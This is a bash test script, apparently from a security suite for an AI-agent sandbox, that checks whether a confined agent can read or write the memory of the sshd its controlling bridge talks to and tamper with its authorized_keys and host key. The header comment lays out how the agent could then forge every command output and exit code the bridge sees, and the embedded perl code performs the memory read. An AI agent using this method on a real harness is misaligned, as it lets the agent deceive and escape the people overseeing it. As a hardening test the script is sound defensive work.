#!/bin/bash
# In a pod the sshd (airlock-agent sshd) runs as uid 1000, the agent's own
# uid, in the agent's PID namespace (shareProcessNamespace), dumpable, no
# Yama: the agent can open /proc/SSHD/mem read-write (read the sshd's
# memory: its session keys, authorized key; write it: make it run or answer
# anything), PTRACE_ATTACH it, SIGSTOP/kill it, and rewrite
# /run/airlock/ssh/{host_key,authorized_keys}. So every reply the bridge gets
# over SSH (exec output, exit codes, SFTP, review snapshot, probe) is the
# agent's to choose, whatever the bridge runs: a fix that runs bridge
# commands without the agent's ~/.bashrc or PATH does not take the sshd out
# of the agent's hands. Got through when the agent can read the sshd's
# memory (finds the authorized key in it) or open it for writing.
. "$(dirname "$0")/lib.sh"
need_cluster2
write_sandbox "$N"; up_sandbox "$N"
inside "$N" 'perl -e '\''
my ($p)=split /\n/, `pgrep -f "airlock-agent sshd"`; chomp $p;
print "sshd pid $p uid ", (stat("/proc/$p"))[4], ", me ", $<, "\n";
open(M,"<","/proc/$p/maps") or die "maps: $!\n";
open(my $mem,"<:raw","/proc/$p/mem") or do { print "mem read: $!\n"; exit 0 };
my ($n,$hits)=(0,0);
while(<M>){ my ($a,$b,$perm)=/^([0-9a-f]+)-([0-9a-f]+) (\S+)/; next unless $perm=~/^rw/;
  my $len=hex($b)-hex($a); next if $len>64<<20; seek($mem,hex($a),0) or next;
  my $buf; my $r=sysread($mem,$buf,$len) or next; $n+=$r; $hits++ while $buf=~/ssh-ed25519 AAAA/g; }
print "READ sshd memory: $n bytes, authorized key found $hits times\n" if $hits;
open(my $w,"+<:raw","/proc/$p/mem") and print "WRITE sshd memory: opened read-write\n";
'\''
ls -l /run/airlock/ssh; chmod u+w /run/airlock/ssh/authorized_keys 2>/dev/null && test -w /run/airlock/ssh/authorized_keys && echo "WRITE authorized_keys: yes"; test -r /run/airlock/ssh/host_key && echo "READ host_key: yes"' > "$T/out" 2>&1
cat "$T/out"
grep -q 'sshd pid' "$T/out" || setup_error "probe did not run"
grep -qE '^(READ sshd|WRITE sshd)' "$T/out"; [ $? = 0 ] && gotthrough || defended
